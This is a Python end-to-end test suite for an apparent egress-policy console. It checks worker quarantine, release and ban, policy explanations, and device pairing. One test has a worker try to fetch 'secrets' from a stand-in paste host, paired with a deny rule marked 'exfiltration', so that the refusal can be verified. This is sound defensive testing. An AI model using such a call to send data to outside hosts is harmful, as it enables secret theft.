"""What people do in the console, each from its beginning to its end, on every screen and in all
colours: whatever state the page is in is looked at by axe, and its picture is in out/console/."""

import json
import re
import sys

import pytest
from playwright.async_api import Locator

from tests.e2e.console_browser import IN_EVERY_LOOK, Console, Look, chromium, signed_in, token_of
from tests.e2e.place import FLEET, Place
from tests.fakes.until import until

READ = "import urllib.request; urllib.request.urlopen({url!r}).read()"
PASTE = "http://paste.example/secrets?of=ours"
REFUSED = "the server responded with a status of 409"
DENY = """\
deny:
  - {id: paste-sites, hosts: [paste.example], reason: exfiltration}
violations:
  quarantine: [host_denied, """


def deny_by_rule(place: Place) -> int:
    """Have a rule whose break quarantines; its line."""
    text = place.policy_file.read_text().replace("violations:\n  quarantine: [", DENY)
    place.policy_file.write_text(text)
    return text.splitlines().index(DENY.splitlines()[1]) + 1


async def breaks_the_rule(place: Place, options: tuple[str, ...] = ()) -> None:
    """A worker reads what it may, then tries what it may not."""
    allowed = place.upstreams.url("api.example", "/open/x")
    program = f"{READ.format(url=allowed)}; {READ.format(url=PASTE)}"
    await place.run_to_its_end("api", sys.executable, "-c", program, options=options)


@pytest.mark.timeout(600)
@IN_EVERY_LOOK
async def test_from_the_first_worker_to_its_violation_its_release_and_its_ban(
    place: Place, look: Look
) -> None:
    """By keyboard alone, and the page is loaded anew only where a link leads elsewhere."""
    line = deny_by_rule(place)
    running = await place.up()
    async with chromium() as browser:
        console = await signed_in(browser, running.admin_url, token_of(place), look)
        page = console.page
        assert await page.get_by_role("heading", name="The first worker").is_visible()
        await console.state("first-run")

        await page.evaluate("window.same = true")
        await breaks_the_rule(place)
        await page.wait_for_selector(".tile.bad:has-text('1')")
        # the proxy tells every three seconds, and the page looks again by itself
        await page.wait_for_selector("#decisions .chip.bad:has-text('1 refused')")
        await page.locator("#bytes a.id").wait_for()
        assert await page.evaluate("window.same")
        await reads_the_overview(console)

        await console.tab_to(page.locator("table a.id").first)
        await page.keyboard.press("Enter")
        await page.wait_for_url("**/console/workers/*")
        await page.wait_for_selector("#live.good")
        await reads_the_story(console, f"policy.yaml:{line}")

        await console.act_by_keyboard("Release", "looked at it")
        wrong = page.locator("#ask-wrong:not([hidden])")
        assert "no valid evidence newer than its quarantine" in await wrong.inner_text()
        await console.state("release-refused")
        await page.keyboard.press("Escape")

        # it attests again with a new key, stays out, and then is let in from the page
        same = ("--worker-id", page.url.rpartition("/")[2])
        again = await place.run_to_its_end("api", "true", options=same)
        assert "the worker is quarantined" in again.err
        await console.act_by_keyboard("Release", "a library's habit; it attested again")
        await page.locator("h1 .chip.good:has-text('available')").wait_for()
        assert await page.locator(".cause").count() == 0
        assert "a library's habit" in await page.locator(".events").inner_text()
        await console.state("worker-released")

        await breaks_the_rule(place, same)
        await page.get_by_role("heading", name="Why it is quarantined").wait_for()
        await console.act_by_keyboard("Ban", "it tried to send our secrets away")
        await page.get_by_role("heading", name="Why it is banned").wait_for()
        await page.locator("h1 .chip.bad:has-text('banned')").wait_for()
        assert await page.locator(".actions button").count() == 0
        await console.state("worker-banned")
        assert [one for one in console.complaints if REFUSED not in one] == []
    (released,) = await place.events("worker.released_by_operator")
    assert released.detail["why"] == "a library's habit; it attested again"
    (banned,) = await place.events("worker.banned_by_operator")
    assert (banned.actor, banned.detail["from"]) == ("operator", "127.0.0.1")
    assert banned.detail["why"] == "it tried to send our secrets away"


async def reads_the_overview(console: Console) -> None:
    """Charts with their numbers, and the kill switch without scrolling."""
    page = console.page
    assert "egress.host_denied" in await page.locator("#refusals").inner_text()
    latency = page.locator("#latency")
    assert "the last quarantine by evidence" in await latency.inner_text()
    assert await latency.get_by_role("img", name="1 of 1").count() == 1
    switch = page.get_by_role("button", name="Freeze all egress")
    await console.assert_in_first_screen(switch)
    table = page.locator("#decisions-table")
    await table.locator("summary").press("Enter")
    assert "Refused" in await table.inner_text()
    await page.evaluate("scrollTo(0, 0)")
    await console.state("overview-quarantined")


async def reads_the_story(console: Console, where: str) -> None:
    """What was tried, the rule and its line, the evidence, what came before, and what can be done
    about it: at a desk all of it in one screen."""
    page = console.page
    story = page.locator(".cause")
    told = await story.inner_text()
    assert "GET http://paste.example:80/secrets" in told
    assert "of=ours" not in told
    for word in ("egress.host_denied", "paste-sites", where, "evidence"):
        assert word in told, word
    assert re.search(r"Today\s+refused\s+by the same rule", told)
    before = page.locator(".log")
    assert re.search(r"It sent .+ and received ", await before.inner_text())
    happened = before.locator("tr")
    assert "registered" in await before.inner_text()
    if not console.look.is_phone:
        for part in (story, happened.nth(1), happened.nth(2), happened.nth(3)):
            await console.assert_in_first_screen(part)
        for button in ("Release", "Ban"):
            found = page.get_by_role("button", name=button, exact=True)
            await console.assert_in_first_screen(found)
    await console.state("worker-quarantined")


@pytest.mark.timeout(600)
@IN_EVERY_LOOK
async def test_the_policy_in_force_is_explained_and_what_changed_is_told(
    place: Place, look: Look
) -> None:
    running = await place.up()
    async with chromium() as browser:
        console = await signed_in(browser, running.admin_url, token_of(place), look)
        page = console.page
        await console.goto("/policies")
        assert "Nothing since the proxy started." in await page.locator("main").inner_text()
        # which rule decided how often is told by the proxy every three seconds
        url = place.upstreams.url("api.example", "/open/x")
        done = await place.run_to_its_end("api", sys.executable, "-c", READ.format(url=url))
        assert done.code == 0, done.err
        counted = page.locator("#rules tr:has-text('api-net') td.number").first
        await until("a verdict is counted", lambda: says_a_number(counted))
        await console.state("policies-counted")

        await console.tab_to(page.get_by_label("Profile"))
        assert await page.get_by_label("Profile").input_value() == "api"
        await page.keyboard.press("Tab")
        await page.keyboard.type("POST")
        await page.keyboard.press("Tab")
        await page.keyboard.type(f"https://api.example:{place.upstreams.port}/open/x")
        await page.keyboard.press("Enter")
        await page.wait_for_url("**/policies?**")
        steps = await page.locator("table.steps").inner_text()
        assert "egress.method_not_allowed" in steps
        assert await page.locator(".chip.bad:has-text('refused')").count() == 1
        await console.state("policies-refused")

        wider = place.policy_file.read_text().replace("methods: [GET]", "methods: [GET, POST]")
        place.policy_file.write_text(wider)

        async def the_page_says(text: str) -> bool:
            await page.reload()
            return text in await page.locator("main").inner_text()

        await until("the change is told", lambda: the_page_says("allows more"))
        assert await page.locator(".chip.good:has-text('allowed')").count() == 1
        await console.state("policies-changed")

        place.policy_file.write_text(wider.replace("hosts:", "hsots:", 1))
        await until("the problem is told", lambda: the_page_says("did you mean"))
        await console.state("policies-problem")
        assert console.complaints == []


async def is_drawn(picture: Locator) -> bool:
    return bool(await picture.evaluate("one => one.naturalWidth > 0"))


async def says_a_number(cell: Locator) -> bool:
    return (await cell.inner_text()).strip() not in {"", "0"}


@pytest.mark.timeout(600)
@IN_EVERY_LOOK
async def test_a_device_is_paired_by_a_code_from_the_page_and_approved_there(
    place: Place, look: Look
) -> None:
    listeners = ("--enrolment", "127.0.0.1:0", "--node", "127.0.0.1:0")
    serve = await place.programs.start(
        *(FLEET, "serve", "--admin", "127.0.0.1:0", "--nodes", *listeners),
        environment=place.environment,
    )
    await serve.err.holds("operator.token\n")
    said = dict(line.split(":", 1) for line in serve.err.text.splitlines() if ":" in line)
    url = said["operators"].strip()
    async with chromium() as browser:
        console = await signed_in(browser, url, token_of(place), look)
        page = console.page
        await console.goto("/approvals")
        await page.wait_for_selector("#live.good")
        await console.tab_to(page.get_by_role("button", name="Show a code"))
        await page.keyboard.press("Enter")
        await page.wait_for_selector("#minted-qr[src^='data:image/svg+xml']")
        await until("the code is drawn", lambda: is_drawn(page.locator("#minted-qr")))
        await console.state("pairing-code")
        code = await page.locator("#minted-code").inner_text()

        install = await place.programs.start(
            *(FLEET, "node", "install", "--enrolment", said["nodes that enrol"].strip()),
            *("--node", said["nodes"].strip(), "--ca", said["the nodes' root"].strip()),
            environment=place.environment,
            with_input=True,
        )
        install.write(f"{code}\n")
        install.close_input()
        card = page.locator("article.device")
        await card.wait_for()
        fingerprint = await card.locator(".compare").first.inner_text()
        await until("the device shows its fingerprint", lambda: fingerprint in install.err.text)
        await console.state("pairing-approval")
        await console.act_by_keyboard("Approve", "the fingerprints are the same")
        assert await install.ended() == 0
        await card.wait_for(state="detached")
        await console.state("pairing-done")

        devices = await (await page.request.get(f"{url}/console/v1/devices")).json()
        assert devices["page"]["has_more"] is False
        assert [one["client_kind"] for one in devices["devices"]] == ["node"]
        device_id = devices["devices"][0]["device_id"]
        node = await place.programs.start(FLEET, "node", "run", environment=place.environment)
        await console.goto("/nodes")
        await page.locator(".chip.good:has-text('connected')").wait_for()
        await console.tab_to(page.get_by_role("button", name="Ask for its health"))
        await page.keyboard.press("Enter")
        await page.locator("#answer:not([hidden])").wait_for()
        assert '"success": true' in await page.locator("#answer-text").inner_text()
        await console.state("nodes")
        await console.act_by_keyboard("Demand a new key", "the disk was copied")
        await until(
            "the node uses the new certificate", lambda: node.err.text.count("connected to") == 2
        )
        listed = await place.fleet("certificate", "list", "--device", device_id, "-o", "json")
        assert [one["state"] for one in json.loads(listed.out)] == ["valid", "revoked"]
        shown = await place.fleet("device", "show", device_id, "-o", "json")
        assert (json.loads(shown.out)["state"], json.loads(shown.out)["rotation"]) == (
            "paired",
            None,
        )
        await console.state("nodes-rotated")
        await console.act_by_keyboard("Revoke", "the machine is gone")
        await node.ended()
        assert console.complaints == []
